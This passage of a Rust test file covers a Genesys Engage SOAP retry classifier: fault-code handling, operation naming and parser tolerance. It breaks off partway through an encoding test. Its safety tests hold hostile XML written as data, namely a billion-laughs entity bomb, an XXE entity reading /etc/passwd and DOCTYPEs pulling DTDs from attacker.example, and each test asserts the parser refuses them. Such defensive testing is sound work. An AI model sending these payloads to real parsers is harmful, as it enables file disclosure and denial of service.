//! Genesys Engage Service API (SOAP): the table of `VENDORS.md`, its documented scenarios, and
//! the parser's tolerance and safety.

use std::time::{Duration, Instant, SystemTime};

use http::{header::CONTENT_TYPE, HeaderMap, HeaderValue, Method, StatusCode, Uri};
use proptest::prelude::*;
use redial_core::backoff::SplitMix64;
use redial_core::{
    decide, Action, Attempt, Body, BodyUse, Classification, Context, Decision, FailReason, Failure, Kind, Outcome,
    Profile, RequestHead, ResponseHead,
};
use redial_vendors::genesys::{self, operation, parse_fault, policy, GenesysEngage, HOSTS};

const S: Duration = Duration::from_secs(1);
const SOAP11: &str = "text/xml; charset=utf-8";
const SOAP12: &str = "application/soap+xml; charset=utf-8";

/// A SOAP 1.1 fault carrying these `<error>`s, with the `soap:` prefix.
fn fault11(errors: &[&str]) -> String {
    let errors: String =
        errors.iter().map(|c| format!("<error><code>{c}</code><message>localised text</message></error>")).collect();
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">
  <soap:Body>
    <soap:Fault>
      <faultcode>soap:Server</faultcode>
      <faultstring>Service API error</faultstring>
      <detail><ns2:ServiceFault xmlns:ns2="http://engage.example/api">{errors}</ns2:ServiceFault></detail>
    </soap:Fault>
  </soap:Body>
</soap:Envelope>"#
    )
}

/// A request invoking `op` (named in the buffered envelope), or an unnamed request.
struct Req {
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    body: Option<Vec<u8>>,
}

impl Req {
    fn plain() -> Req {
        Req {
            method: Method::POST,
            uri: Uri::from_static("https://engage.example/ServiceAPI"),
            headers: HeaderMap::new(),
            body: None,
        }
    }
    fn op(op: &str) -> Req {
        let body = format!(
            r#"<?xml version="1.0"?><S:Envelope xmlns:S="http://schemas.xmlsoap.org/soap/envelope/"><S:Header><wsse:Security xmlns:wsse="x"/></S:Header><S:Body><api:{op} xmlns:api="http://engage.example/api"><subCampaign><externalId>X1</externalId></subCampaign></api:{op}></S:Body></S:Envelope>"#
        );
        Req { body: Some(body.into_bytes()), ..Req::plain() }
    }
    fn header(mut self, name: &'static str, value: &str) -> Req {
        self.headers.insert(name, HeaderValue::from_str(value).unwrap());
        self
    }
    fn head(&self) -> RequestHead<'_> {
        RequestHead { method: &self.method, uri: &self.uri, headers: &self.headers, body: self.body.as_deref() }
    }
}

fn classify_with(profile: &GenesysEngage, req: &Req, status: u16, ct: Option<&str>, body: Body<'_>) -> Classification {
    let mut h = HeaderMap::new();
    if let Some(ct) = ct {
        h.insert(CONTENT_TYPE, HeaderValue::from_str(ct).unwrap());
    }
    let head =
        ResponseHead { status: StatusCode::from_u16(status).unwrap(), headers: &h, received_at: SystemTime::now() };
    profile.classify(&req.head(), &Outcome::Response(head, body))
}

fn classify(req: &Req, status: u16, body: &str) -> Classification {
    classify_with(&GenesysEngage::default(), req, status, Some(SOAP11), Body::Complete(body.as_bytes()))
}

fn classify_failure(req: &Req, f: Failure) -> Classification {
    GenesysEngage::default().classify(&req.head(), &Outcome::Failure(f))
}

fn decide_at(c: &Classification, attempt: u32, history: &[Attempt], idempotent: bool, can_reconcile: bool) -> Decision {
    let policy = policy();
    let ctx = Context {
        attempt,
        history,
        policy: &policy,
        idempotent,
        replayable: Ok(()),
        elapsed: S * attempt,
        can_reconcile,
        can_refresh_auth: true,
    };
    decide(c, &ctx, None, Instant::now(), &mut SplitMix64::seeded(3))
}

fn min_delay(d: &Decision) -> Option<Duration> {
    match d {
        Decision::Retry { range, .. } => Some(range.0),
        _ => None,
    }
}

#[test]
fn the_vendors_md_table() {
    use Action::{Fail, Reconcile, RefreshAuth, Retry};
    enum Signal {
        Fault(&'static str),
        NoResponse(Failure),
        /// A status with a body that is no SOAP (a gateway's page).
        Gateway(u16),
    }
    let other = Req::op("createCampaign");
    let sub = Req::op("createSubCampaign");
    /// signal, request, kind, (action idempotent, action not), minimum delay
    type Row<'a> = (Signal, &'a Req, Kind, (Action, Action), Option<Duration>);
    let mut rows: Vec<Row<'_>> = vec![
        // INTERNAL_ERROR, or a timeout → transient, re-invoke once after ~30 s.
        (Signal::Fault("INTERNAL_ERROR"), &other, Kind::Transient, (Retry, Retry), Some(30 * S)),
        // The same on createSubCampaign → reconcile.
        (Signal::Fault("INTERNAL_ERROR"), &sub, Kind::Transient, (Reconcile, Reconcile), None),
        // NO_SESSION → auth_expired, refresh_auth.
        (Signal::Fault("NO_SESSION"), &other, Kind::AuthExpired, (RefreshAuth, RefreshAuth), None),
        (Signal::Fault("NO_SESSION"), &sub, Kind::AuthExpired, (RefreshAuth, RefreshAuth), None),
        // SYSTEM_LIMIT_EXCEEDED → throttled, but fail.
        (Signal::Fault("SYSTEM_LIMIT_EXCEEDED"), &other, Kind::Throttled, (Fail, Fail), None),
    ];
    for f in [Failure::Timeout, Failure::Io, Failure::BodyRead, Failure::Connect] {
        rows.push((Signal::NoResponse(f), &other, Kind::Transient, (Retry, Retry), Some(30 * S)));
        // A connection that failed before sending cannot have created anything: re-invoke.
        let on_sub = if f == Failure::Connect { (Retry, Retry) } else { (Reconcile, Reconcile) };
        rows.push((Signal::NoResponse(f), &sub, Kind::Transient, on_sub, min_delay_for(on_sub)));
    }
    // A gateway's 504 is a timeout: the call may have taken effect. Re-invoke once after ~30 s,
    // or reconcile createSubCampaign first.
    rows.push((Signal::Gateway(504), &other, Kind::Transient, (Retry, Retry), Some(30 * S)));
    rows.push((Signal::Gateway(504), &sub, Kind::Transient, (Reconcile, Reconcile), None));
    // Other gateway errors are not a Genesys timeout: the generic status rules (a 502 re-sends
    // only what is idempotent, a 503 anything).
    rows.push((Signal::Gateway(502), &other, Kind::Transient, (Retry, Fail), Some(Duration::ZERO)));
    rows.push((Signal::Gateway(502), &sub, Kind::Transient, (Retry, Fail), Some(Duration::ZERO)));
    rows.push((Signal::Gateway(503), &sub, Kind::Transient, (Retry, Retry), Some(Duration::ZERO)));
    // Stopped on this side before it was sent: no vendor rule applies, final.
    rows.push((Signal::NoResponse(Failure::Local), &other, Kind::Fatal, (Fail, Fail), None));
    rows.push((Signal::NoResponse(Failure::Local), &sub, Kind::Fatal, (Fail, Fail), None));
    // Every other code → fatal, fail.
    for code in [
        "AUTHENTICATION_FAILURE",
        "AUTHORIZATION_FAILURE",
        "ARG_NULL",
        "ARG_INVALID_TYPE",
        "ARG_TOO_LARGE",
        "ATTRIBUTE_NULL",
        "ATTRIBUTE_TOO_SMALL",
        "OBJECT_EXISTS",
        "OBJECT_ EXISTS",
        "OBJECT_NOT_EXISTS",
        "RESULT_TOO_LARGE",
        "INVALID_STATE",
        "INBOUND_DEVICE_ALREADY_MAPPED_TO_KEYWORD",
        "ACTIVE_RULE_SET_GROUPS_ASSOCIATED",
        "SOMETHING_NEW",
    ] {
        rows.push((Signal::Fault(code), &other, Kind::Fatal, (Fail, Fail), None));
        rows.push((Signal::Fault(code), &sub, Kind::Fatal, (Fail, Fail), None));
    }

    for (i, (signal, req, kind, actions, delay)) in rows.iter().enumerate() {
        let c = match signal {
            Signal::Fault(code) => classify(req, 500, &fault11(&[code])),
            Signal::NoResponse(f) => classify_failure(req, *f),
            Signal::Gateway(status) => {
                let page = b"<html><body><h1>Gateway Timeout</h1></body></html>";
                classify_with(&GenesysEngage::default(), req, *status, Some("text/html"), Body::Complete(page))
            }
        };
        let what = format!("row {i}: {}", c.reason);
        assert_eq!(c.kind, *kind, "{what}");
        let idem = decide_at(&c, 1, &[], true, true);
        let not_idem = decide_at(&c, 1, &[], false, true);
        assert_eq!((idem.action(), not_idem.action()), *actions, "{what}");
        assert_eq!(min_delay(&idem), *delay, "{what}");
        if let Signal::Gateway(504) = signal {
            assert!(c.reason.contains("a gateway's timeout (the call may have taken effect)"), "{what}");
        }
        if let Signal::Fault(code) = signal {
            assert_eq!(c.code(), Some(*code), "{what}");
            assert_eq!(c.body, BodyUse::Parsed, "{what}");
        }
    }
}

fn min_delay_for(actions: (Action, Action)) -> Option<Duration> {
    (actions.0 == Action::Retry).then_some(30 * S)
}

/// "Ideally after a reasonable back off period (for instance, 30 seconds)": a gateway's 504
/// that says `Retry-After: 0` does not make the one re-invocation immediate; a longer wait it
/// names is kept.
#[test]
fn a_gateway_timeouts_retry_after_lengthens_the_back_off_never_shortens_it() {
    let req = Req::op("createCampaign");
    let page = b"<html><body><h1>Gateway Timeout</h1></body></html>";
    for (retry_after, wait) in [("0", 30 * S), ("5", 30 * S), ("45", 45 * S)] {
        let mut headers = HeaderMap::new();
        headers.insert("content-type", HeaderValue::from_static("text/html"));
        headers.insert("retry-after", HeaderValue::from_str(retry_after).unwrap());
        let head = ResponseHead::new(StatusCode::GATEWAY_TIMEOUT, &headers, SystemTime::now());
        let c = GenesysEngage::default().classify(&req.head(), &Outcome::Response(head, Body::Complete(page)));
        assert_eq!(min_delay(&decide_at(&c, 1, &[], false, false)), Some(wait), "Retry-After: {retry_after}");
    }
}

#[test]
fn faults_are_classified_by_code_whatever_the_status() {
    for status in [200, 400, 500, 503] {
        let c = classify(&Req::plain(), status, &fault11(&["NO_SESSION"]));
        assert_eq!(c.kind, Kind::AuthExpired, "{status}");
    }
}

#[test]
fn internal_error_is_reinvoked_once_after_30_s_then_final() {
    let req = Req::op("createCampaign");
    let c = classify(&req, 500, &fault11(&["INTERNAL_ERROR"]));
    let first = decide_at(&c, 1, &[], false, false);
    assert_eq!(first, Decision::Retry { after: 30 * S, range: (30 * S, 30 * S) });
    let history = [Attempt::new(1, Some(StatusCode::INTERNAL_SERVER_ERROR), None, &c, &first, S)];
    let once = Decision::Fail(FailReason::RuleExhausted { rule: genesys::REINVOKE_RULE, retries: 1 });
    assert_eq!(decide_at(&c, 2, &history, false, false), once);
    // A timeout is re-invoked once too.
    let t = classify_failure(&req, Failure::Timeout);
    let first = decide_at(&t, 1, &[], false, false);
    assert_eq!(min_delay(&first), Some(30 * S));
    let timed_out = [Attempt::new(1, None, Some(Failure::Timeout), &t, &first, S)];
    assert_eq!(decide_at(&t, 2, &timed_out, false, false), once);
    // "INTERNAL_ERROR, or a timeout": once in all, whichever comes first, not once each.
    assert_eq!(decide_at(&c, 2, &timed_out, false, false), once, "a timeout, then INTERNAL_ERROR");
    assert_eq!(decide_at(&t, 2, &history, false, false), once, "INTERNAL_ERROR, then a timeout");
}

#[test]
fn create_sub_campaign_reconciles() {
    // The operation is named by the envelope, by SOAPAction (1.1), or by the action= parameter (1.2).
    let requests = [
        Req::op("createSubCampaign"),
        Req::plain().header("soapaction", "\"http://engage.example/api/createSubCampaign\""),
        Req::plain()
            .header("content-type", r#"application/soap+xml;charset=utf-8;action="urn:engage:createSubCampaign""#),
        // A document-style wrapper element, and an envelope that names another operation while
        // SOAPAction names this one: any of its names makes a call one to reconcile.
        Req::op("createSubCampaignRequest"),
        Req::op("submit").header("soapaction", "\"http://engage.example/api/createSubCampaign\""),
    ];
    for req in &requests {
        for c in [classify(req, 500, &fault11(&["INTERNAL_ERROR"])), classify_failure(req, Failure::Timeout)] {
            assert_eq!(c.kind, Kind::Transient, "{}", c.reason);
            assert_eq!(c.advice.action(), Action::Reconcile, "{}", c.reason);
            assert_eq!(decide_at(&c, 1, &[], false, true), Decision::Reconcile);
            // Without a hook the call fails rather than risk a duplicate sub-campaign.
            assert_eq!(decide_at(&c, 1, &[], false, false), Decision::Fail(FailReason::NoReconcileHook));
        }
    }
    // The set is configurable.
    let none = GenesysEngage::default().with_reconcile_operations(Vec::<&'static str>::new());
    let c =
        classify_with(&none, &requests[0], 500, Some(SOAP11), Body::Complete(fault11(&["INTERNAL_ERROR"]).as_bytes()));
    assert_eq!(c.advice.action(), Action::Retry);
    assert!(none.reconcile_operations().is_empty());
    let more = GenesysEngage::default().with_reconcile_operation("createCampaign");
    assert_eq!(more.reconcile_operations(), ["createSubCampaign", "createCampaign"]);
    assert_eq!(GenesysEngage::default().reconcile_operations(), genesys::RECONCILE_OPERATIONS);
    let c = more.classify(&Req::op("createCampaign").head(), &Outcome::Failure(Failure::Timeout));
    assert_eq!(c.advice.action(), Action::Reconcile);
    // A gateway's 504 is the timeout rule: on createSubCampaign it says so, and reconciles.
    let c = classify(&requests[0], 504, "<html><body>504 Gateway Time-out</body></html>");
    assert_eq!(c.advice.action(), Action::Reconcile);
    assert!(c.reason.contains("reconcile before re-invoking"), "{}", c.reason);
}

#[test]
fn operation_names() {
    assert_eq!(operation(&Req::op("createSubCampaign").head()).as_deref(), Some("createSubCampaign"));
    let unprefixed =
        Req { body: Some(b"<Envelope><Body><showSubCampaignState/></Body></Envelope>".to_vec()), ..Req::plain() };
    assert_eq!(operation(&unprefixed.head()).as_deref(), Some("showSubCampaignState"));
    let action = Req::plain().header("soapaction", "urn:ServiceAPI#deleteCampaign");
    assert_eq!(operation(&action.head()).as_deref(), Some("deleteCampaign"));
    assert_eq!(operation(&Req::plain().header("soapaction", "\"\"").head()), None);
    assert_eq!(operation(&Req::plain().head()), None);
    // A body with a DOCTYPE is not read; the header still names the operation.
    let doctype = Req {
        body: Some(b"<!DOCTYPE x [<!ENTITY a 'b'>]><Envelope><Body><evil/></Body></Envelope>".to_vec()),
        ..Req::plain().header("soapaction", "createSubCampaign")
    };
    assert_eq!(operation(&doctype.head()).as_deref(), Some("createSubCampaign"));
    // Many header elements side by side are not nesting: the operation after them is found.
    let header = "<wsa:To>x</wsa:To>".repeat(genesys::MAX_DEPTH + 10);
    let long_header = Req {
        body: Some(
            format!("<S:Envelope><S:Header>{header}</S:Header><S:Body><createSubCampaign/></S:Body></S:Envelope>")
                .into_bytes(),
        ),
        ..Req::plain()
    };
    assert_eq!(operation(&long_header.head()).as_deref(), Some("createSubCampaign"));
    // After an empty Body, nothing is the operation.
    let empty = Req { body: Some(b"<Envelope><Body></Body><trailer/></Envelope>".to_vec()), ..Req::plain() };
    assert_eq!(operation(&empty.head()), None);
}

/// `ARG_*` and `ATTRIBUTE_*` are prefix rows: each code under them is final, as that row says.
#[test]
fn arg_and_attribute_codes_are_final_by_their_prefix_rows() {
    let req = Req::op("createCampaign");
    for (code, why) in [("ARG_NULL", "an argument is in error"), ("ATTRIBUTE_NULL", "an attribute is in error")] {
        let c = classify(&req, 500, &fault11(&[code]));
        assert_eq!((c.kind, c.advice.action()), (Kind::Fatal, Action::Fail), "{code}");
        assert!(c.reason.contains(why), "{code}: {}", c.reason);
    }
    // The bare prefix is no code of the row: it is final as every other code.
    let c = classify(&req, 500, &fault11(&["ARG_"]));
    assert_eq!(c.kind, Kind::Fatal);
    assert!(c.reason.contains("every other error is final"), "{}", c.reason);
}

#[test]
fn a_fault_with_three_attribute_errors_keeps_them_all() {
    let body = r#"<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/">
<SOAP-ENV:Body><SOAP-ENV:Fault><faultcode>SOAP-ENV:Client</faultcode><faultstring>Validation failed</faultstring>
<detail><ns1:ServiceException xmlns:ns1="urn:engage"><ns1:errors>
  <ns1:error><ns1:code>ATTRIBUTE_NULL</ns1:code><ns1:message>Attribute supplied is null</ns1:message>
    <ns1:argumentIndex>0</ns1:argumentIndex><ns1:attributeName>externalId</ns1:attributeName><ns1:context/></ns1:error>
  <ns1:error><ns1:code>ATTRIBUTE_TOO_LARGE</ns1:code><ns1:message>Attribute 'name' exceeds allowed size</ns1:message>
    <ns1:argumentIndex>0</ns1:argumentIndex><ns1:attributeName>name</ns1:attributeName><ns1:context>max 64</ns1:context></ns1:error>
  <ns1:error><ns1:code>ATTRIBUTE_INVALID_FORMAT</ns1:code><ns1:message>Attribute 'startDate' has an invalid format</ns1:message>
    <ns1:argumentIndex>1</ns1:argumentIndex><ns1:attributeName>startDate</ns1:attributeName></ns1:error>
</ns1:errors></ns1:ServiceException></detail></SOAP-ENV:Fault></SOAP-ENV:Body></SOAP-ENV:Envelope>"#;
    let fault = parse_fault(body.as_bytes()).unwrap();
    assert_eq!(fault.code.as_deref(), Some("SOAP-ENV:Client"));
    assert_eq!(fault.reason.as_deref(), Some("Validation failed"));
    let got: Vec<_> = fault
        .errors
        .iter()
        .map(|e| (e.code.as_str(), e.argument_index, e.attribute_name.as_deref(), e.context.as_deref()))
        .collect();
    assert_eq!(
        got,
        [
            ("ATTRIBUTE_NULL", Some(0), Some("externalId"), None),
            ("ATTRIBUTE_TOO_LARGE", Some(0), Some("name"), Some("max 64")),
            ("ATTRIBUTE_INVALID_FORMAT", Some(1), Some("startDate"), None),
        ]
    );
    let c = classify(&Req::op("createSubCampaign"), 500, body);
    assert_eq!(c.kind, Kind::Fatal);
    assert_eq!(c.errors.len(), 3);
    assert_eq!(c.errors[1].attribute("argumentIndex"), Some("0"));
    assert_eq!(c.errors[1].attribute("attributeName"), Some("name"));
    assert_eq!(c.errors[1].attribute("context"), Some("max 64"));
    assert_eq!(c.errors[2].attribute("attributeName"), Some("startDate"));
}

#[test]
fn the_most_final_error_of_a_set_decides() {
    let req = Req::op("createCampaign");
    let cases: [(&[&str], Kind, &str); 6] = [
        (&["INTERNAL_ERROR", "ARG_NULL"], Kind::Fatal, "ARG_NULL"),
        (&["NO_SESSION", "INTERNAL_ERROR"], Kind::AuthExpired, "NO_SESSION"),
        (&["INTERNAL_ERROR", "SYSTEM_LIMIT_EXCEEDED", "NO_SESSION"], Kind::Throttled, "SYSTEM_LIMIT_EXCEEDED"),
        (&["ATTRIBUTE_NULL", "ARG_NULL"], Kind::Fatal, "ATTRIBUTE_NULL"),
        (&["INTERNAL_ERROR"], Kind::Transient, "INTERNAL_ERROR"),
        // Any fatal code comes before SYSTEM_LIMIT_EXCEEDED, whichever is first in the set.
        (&["SYSTEM_LIMIT_EXCEEDED", "ARG_NULL"], Kind::Fatal, "ARG_NULL"),
    ];
    for (codes, kind, decider) in cases {
        let c = classify(&req, 500, &fault11(codes));
        assert_eq!(c.kind, kind, "{codes:?}");
        assert!(c.reason.contains(decider), "{}", c.reason);
        assert_eq!(c.errors.len(), codes.len());
        // Every error is kept in order, whichever decided.
        assert_eq!(c.errors.iter().map(|e| e.code.as_str()).collect::<Vec<_>>(), codes);
    }
}

#[test]
fn soap_11_and_12_with_any_prefix() {
    let v11 = |p: &str| {
        let (open, close) =
            if p.is_empty() { (String::new(), String::new()) } else { (format!("{p}:"), format!("{p}:")) };
        let ns = if p.is_empty() {
            r#"xmlns="http://schemas.xmlsoap.org/soap/envelope/""#.to_owned()
        } else {
            format!(r#"xmlns:{p}="http://schemas.xmlsoap.org/soap/envelope/""#)
        };
        format!(
            "<{open}Envelope {ns}><{open}Body><{open}Fault><faultcode>{open}Server</faultcode><faultstring>Oops</faultstring>\
             <detail><error><code>NO_SESSION</code><message>No current session</message></error></detail></{close}Fault></{close}Body></{close}Envelope>"
        )
    };
    let v12 = |p: &str| {
        let open = if p.is_empty() { String::new() } else { format!("{p}:") };
        let ns = if p.is_empty() {
            r#"xmlns="http://www.w3.org/2003/05/soap-envelope""#.to_owned()
        } else {
            format!(r#"xmlns:{p}="http://www.w3.org/2003/05/soap-envelope""#)
        };
        format!(
            "<{open}Envelope {ns}><{open}Body><{open}Fault>\
             <{open}Code><{open}Value>{open}Receiver</{open}Value><{open}Subcode><{open}Value>x:Other</{open}Value></{open}Subcode></{open}Code>\
             <{open}Reason><{open}Text xml:lang=\"fr\">Pas de session</{open}Text><{open}Text xml:lang=\"en\">No session</{open}Text></{open}Reason>\
             <{open}Detail><e:Error xmlns:e=\"urn:engage\"><e:code>NO_SESSION</e:code><e:message>Pas de session</e:message></e:Error></{open}Detail>\
             </{open}Fault></{open}Body></{open}Envelope>"
        )
    };
    for p in ["soap", "SOAP-ENV", "env", "s", ""] {
        let f = parse_fault(v11(p).as_bytes()).unwrap_or_else(|| panic!("1.1 {p}"));
        let want = if p.is_empty() { "Server".to_owned() } else { format!("{p}:Server") };
        assert_eq!(f.code.as_deref(), Some(want.as_str()), "1.1 {p}");
        assert_eq!(f.reason.as_deref(), Some("Oops"));
        assert_eq!(f.errors[0].code, "NO_SESSION");

        let f = parse_fault(v12(p).as_bytes()).unwrap_or_else(|| panic!("1.2 {p}"));
        let want = if p.is_empty() { "Receiver".to_owned() } else { format!("{p}:Receiver") };
        assert_eq!(f.code.as_deref(), Some(want.as_str()), "1.2 {p}");
        assert_eq!(f.reason.as_deref(), Some("Pas de session"));
        assert_eq!(f.errors.len(), 1);
        assert_eq!(f.errors[0].message.as_deref(), Some("Pas de session"));

        for body in [v11(p), v12(p)] {
            let c = classify_with(
                &GenesysEngage::default(),
                &Req::plain(),
                500,
                Some(SOAP12),
                Body::Complete(body.as_bytes()),
            );
            assert_eq!(c.kind, Kind::AuthExpired);
        }
    }
}

#[test]
fn errors_in_an_ordinary_response_body() {
    let body = r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>
      <createSubCampaignResponse><result><errors><code>OBJECT_EXISTS</code><message>Object 'X1' already exists</message><context>X1</context></errors></result></createSubCampaignResponse>
    </s:Body></s:Envelope>"#;
    let c = classify(&Req::op("createSubCampaign"), 200, body);
    assert_eq!(c.kind, Kind::Fatal);
    assert_eq!(c.code(), Some("OBJECT_EXISTS"));
    assert_eq!(c.errors[0].attribute("context"), Some("X1"));
    let ok = r#"<s:Envelope xmlns:s="x"><s:Body><createSubCampaignResponse><internalId>7</internalId></createSubCampaignResponse></s:Body></s:Envelope>"#;
    let c = classify(&Req::op("createSubCampaign"), 200, ok);
    assert_eq!(c.kind, Kind::Success);
    assert_eq!(c.body, BodyUse::Parsed);
    assert!(parse_fault(ok.as_bytes()).is_none());
}

#[test]
fn the_research_fixture_alone() {
    let body = "<error><code>ATTRIBUTE_NULL</code><message>Attribute supplied is null</message>\n<argumentIndex>0</argumentIndex><attributeName>externalId</attributeName><context/></error>";
    let f = parse_fault(body.as_bytes()).unwrap();
    assert_eq!(f.errors.len(), 1);
    assert_eq!(f.errors[0].attribute_name.as_deref(), Some("externalId"));
    assert_eq!(f.errors[0].context, None);
}

#[test]
fn a_fault_without_genesys_errors() {
    let body = r#"<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><soap:Fault>
      <faultcode>wsse:FailedAuthentication</faultcode><faultstring>The security token could not be authenticated</faultstring>
    </soap:Fault></soap:Body></soap:Envelope>"#;
    let c = classify(&Req::plain(), 500, body);
    assert_eq!(c.body, BodyUse::Parsed);
    assert_eq!(c.code(), Some("wsse:FailedAuthentication"));
    // The status rules decide: a 500 SOAP POST is not re-sent.
    assert_eq!(decide_at(&c, 1, &[], false, false), Decision::Fail(FailReason::NotIdempotent));
    // A fault code that is a Genesys code is honoured.
    let body = body.replace("wsse:FailedAuthentication", "ns:NO_SESSION");
    let c = classify(&Req::plain(), 500, &body);
    assert_eq!(c.kind, Kind::AuthExpired);
    assert_eq!(c.code(), Some("ns:NO_SESSION"));
}

// ---------------------------------------------------------------------------------------------
// Safety.

#[test]
fn billion_laughs_is_refused_quickly() {
    let mut dtd = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    dtd.push_str("<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">");
    for i in 2..10 {
        let p = i - 1;
        dtd.push_str(&format!(
            "<!ENTITY lol{i} \"&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};\">"
        ));
    }
    dtd.push_str("]>");
    let body = format!("<?xml version=\"1.0\"?>{dtd}<soap:Envelope xmlns:soap=\"x\"><soap:Body><soap:Fault><detail><error><code>INTERNAL_ERROR</code><message>&lol9;</message></error></detail></soap:Fault></soap:Body></soap:Envelope>");
    let started = Instant::now();
    assert!(parse_fault(body.as_bytes()).is_none());
    let c = classify(&Req::op("createCampaign"), 500, &body);
    assert!(started.elapsed() < 2 * S);
    assert_eq!(c.body, BodyUse::Fallback);
    assert!(c.errors.is_empty());
    assert_eq!(c.kind, Kind::Transient); // generic 500: idempotent requests only
    assert_eq!(decide_at(&c, 1, &[], false, false), Decision::Fail(FailReason::NotIdempotent));
}

#[test]
fn external_entities_are_refused() {
    for body in [
        r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Envelope><Body><Fault><detail><error><code>&xxe;</code></error></detail></Fault></Body></Envelope>"#,
        r#"<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><Envelope><Body><Fault/></Body></Envelope>"#,
        r#"<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><Envelope/>"#,
    ] {
        assert!(parse_fault(body.as_bytes()).is_none(), "{body}");
        let c = classify(&Req::plain(), 500, body);
        assert_eq!(c.body, BodyUse::Fallback);
        assert!(c.errors.is_empty());
    }
    // An undeclared entity (no DOCTYPE) is never expanded: it stays as written.
    let body = "<Envelope><Body><Fault><detail><error><code>ARG_NULL</code><message>a &xxe; &lt;b&gt; &#65;&#x42;</message></error></detail></Fault></Body></Envelope>";
    let f = parse_fault(body.as_bytes()).unwrap();
    assert_eq!(f.errors[0].message.as_deref(), Some("a &xxe; <b> AB"));
}

#[test]
fn hostile_sizes_are_bounded() {
    // Nesting past the depth limit is refused.
    let deep = format!("{}{}", "<a>".repeat(genesys::MAX_DEPTH + 1), "</a>".repeat(genesys::MAX_DEPTH + 1));
    assert!(parse_fault(deep.as_bytes()).is_none());
    let c = classify(&Req::plain(), 503, &deep);
    assert_eq!(c.body, BodyUse::Fallback);
    assert_eq!(c.advice.action(), Action::Retry);
    // At most MAX_ERRORS errors are kept.
    let many = fault11(&vec!["ARG_NULL"; genesys::MAX_ERRORS + 500]);
    let started = Instant::now();
    let c = classify(&Req::plain(), 500, &many);
    assert!(started.elapsed() < 2 * S);
    assert_eq!(c.errors.len(), genesys::MAX_ERRORS);
    assert_eq!(c.kind, Kind::Fatal);
}

/// A fault is read only from one whole document, and its code and reason only from their own
/// elements, wherever they stand among the fault's children. Each case would otherwise read a
/// fault that is not there, miss one that is, or take its code from the wrong element.
#[test]
fn a_fault_is_read_from_one_whole_document_and_its_own_elements() {
    let envelope = |fault: &str| {
        format!(
            r#"<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><soap:Fault>{fault}</soap:Fault></soap:Body></soap:Envelope>"#
        )
    };
    let detail = "<detail><error><code>INTERNAL_ERROR</code><message>m</message></error></detail>";
    let whole = envelope(&format!("<faultcode>soap:Server</faultcode><faultstring>Oops</faultstring>{detail}"));
    let nested = |n: usize| format!("{}{whole}{}", "<a>".repeat(n), "</a>".repeat(n));

    let refused = [
        ("nested past the depth limit", nested(genesys::MAX_DEPTH)),
        ("a second root before it", format!("<a/>{whole}")),
        ("a second root after it", format!("{whole}<a/>")),
        ("cut before its last end tag", whole.trim_end_matches("</soap:Envelope>").to_owned()),
    ];
    for (what, body) in refused {
        assert!(parse_fault(body.as_bytes()).is_none(), "{what}: {body}");
    }
    assert!(parse_fault(nested(genesys::MAX_DEPTH - 8).as_bytes()).is_some(), "within the depth limit");

    // (the fault's children, its code, its reason, its first error's code)
    let read = [
        (format!("<faultstring>Oops</faultstring><faultcode>soap:Server</faultcode>{detail}"), "soap:Server", "Oops"),
        (format!("{detail}<faultstring>Oops</faultstring><faultcode>soap:Server</faultcode>"), "soap:Server", "Oops"),
        (
            format!("<faultcode>soap:Server</faultcode><faultcode>soap:Client</faultcode><faultstring>Oops</faultstring>{detail}"),
            "soap:Server",
            "Oops",
        ),
    ];
    for (children, code, reason) in read {
        let f = parse_fault(envelope(&children).as_bytes()).unwrap_or_else(|| panic!("{children}"));
        assert_eq!((f.code.as_deref(), f.reason.as_deref()), (Some(code), Some(reason)), "{children}");
        assert_eq!(f.errors.first().map(|e| e.code.as_str()), Some("INTERNAL_ERROR"), "{children}");
    }
}

// ---------------------------------------------------------------------------------------------
// Parser tolerance.

#[test]
fn bodies_that_do_not_parse_fall_back_to_the_status() {
    let cut = fault11(&["NO_SESSION"]);
    let cases: [(u16, &[u8]); 7] = [
        (502, b"<html><head><title>502 Bad Gateway</title></head><body><hr><center>nginx</center></body></html>"),
        (503, b"Service Temporarily Unavailable"),
        (500, b""),
        (500, &cut.as_bytes()[..cut.len() / 2]),
        (500, b"<a><b></a></b>"),
        (500, b"\xff\xfe<\x00E\x00"), // UTF-16, cut short: not well-formed
        (502, b"<a/><b/>"),
    ];
    for (status, body) in cases {
        let c =
            classify_with(&GenesysEngage::default(), &Req::plain(), status, Some("text/html"), Body::Complete(body));
        let generic = redial_core::generic::Generic::classify_status(&ResponseHead {
            status: StatusCode::from_u16(status).unwrap(),
            headers: &HeaderMap::new(),
            received_at: SystemTime::now(),
        });
        let shown = String::from_utf8_lossy(body);
        assert_eq!(c.body, BodyUse::Fallback, "{shown}");
        assert_eq!((c.kind, c.advice.action()), (generic.kind, generic.advice.action()), "{shown}");
        assert!(c.reason.starts_with("genesys: "), "{}", c.reason);
    }
}

/// XML tells its own encoding (XML 1.0 §4.3.3): a UTF-16 fault starts with a byte order mark,
/// an ISO-8859-1 one names it in its declaration. Both are read (a .NET or Java service may
/// answer so); any other encoding, or bytes that are not what it says, falls back to the status.
#[test]
fn faults_in_utf_16_and_iso_8859_1_are_read_by_code() {
    let xml = fault11(&["INTERNAL_ERROR"]).replace("localised text", "Erreur interne, réessayez");
    let utf16 = |bom: [u8; 2], unit: fn(u16) -> [u8; 2]| -> Vec<u8> {
        let xml = xml.replace(r#"encoding="UTF-8""#, r#"encoding="UTF-16""#);
        bom.into_iter().chain(xml.encode_utf16().flat_map(unit)).collect()
    };
    let latin1 = |name: &str| -> Vec<u8> {
        let xml = xml.replace(r#"encoding="UTF-8""#, &format!("encoding='{name}'"));
